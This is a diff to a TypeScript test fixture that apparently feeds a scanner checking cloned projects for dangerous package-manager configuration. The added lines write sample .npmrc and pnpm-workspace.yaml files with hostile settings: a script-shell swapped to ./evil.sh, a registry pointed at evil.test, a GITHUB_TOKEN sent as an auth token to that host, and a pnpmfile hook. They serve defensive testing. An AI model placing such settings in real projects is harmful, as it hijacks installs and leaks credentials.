@@ -30,6 +30,18 @@ export function fixture(r: string): void {
   mkdirSync(join(p, "nested", ".git"), { recursive: true });
   mkdirSync(join(p, "logs"));
   writeFileSync(join(p, "logs", "old.log.gz"), gzipSync("old\n"));
+  // Package manager configuration a cloned project ships (issue 19: .npmrc, pnpm-workspace.yaml).
+  const npmDirs: Record<string, [string, string]> = {
+    "npm-evil": [".npmrc", "script-shell=./evil.sh\n"],
+    "npm-reg": [".npmrc", "registry=http://evil.test/\n"],
+    "npm-auth": [".npmrc", "//evil.test/:_authToken=${GITHUB_TOKEN}\n@x:registry=https://evil.test/\n"],
+    "npm-ok": [".npmrc", "save-exact=true\n; git=./evil (a comment)\nregistry=https://registry.npmjs.org/\n"],
+    "pnpm-evil": ["pnpm-workspace.yaml", "packages:\n  - 'a/*'\npnpmfile: ./evil.cjs\n"],
+  };
+  for (const [d, [f, text]] of Object.entries(npmDirs)) {
+    mkdirSync(join(p, d));
+    writeFileSync(join(p, d, f), text);
+  }
   // A real, benign archive (extractions are judged by what the archive holds).
   execFileSync("tar", ["-cf", "a.tar", "README.md"], { cwd: p });
   symlinkSync(join(r, "secrets", "key"), join(p, "link-secret"));
